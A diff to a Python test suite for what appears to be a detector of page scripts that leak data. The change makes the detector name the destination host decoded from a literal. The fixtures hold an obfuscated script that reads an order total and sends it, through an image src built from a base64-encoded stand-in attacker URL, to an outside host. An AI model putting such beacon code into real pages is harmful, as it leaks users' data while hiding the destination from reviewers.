@@ -344,9 +344,10 @@ def test_an_unproven_flow_needs_manual_review():
     hidden = ("<p></p><script>const t = flowUi.get('order.total'); const k = location.hash.slice(1);\n"
               "const i = new Image(); i[k] = atob('aHR0cHM6Ly94LmV2aWwuZXhhbXBsZS8=') + t;</script>")
     assert ("exfil.possible-flow", "medium", ["order.total"], []) in rules_of(hidden, fields=["order.total"])
-    # A member named by strings joined is that member: the sink is followed, the host stays unknown.
+    # A member named by strings joined is that member, and a host decoded from a literal is that
+    # host: the sink is followed and its host named.
     joined = hidden.replace("location.hash.slice(1)", "['s', 'r', 'c'].join('')")
-    assert ("exfil.state-to-url", "high", ["order.total"], []) in rules_of(joined, fields=["order.total"])
+    assert ("exfil.state-to-url", "high", ["order.total"], ["x.evil.example"]) in rules_of(joined, fields=["order.total"])
     # State and no way out: quiet. A way out and no data read: quiet.
     assert rules_of("<p></p><script>document.querySelector('p').title = flowUi.get('order.total');</script>",
                     fields=["order.total"]) == []
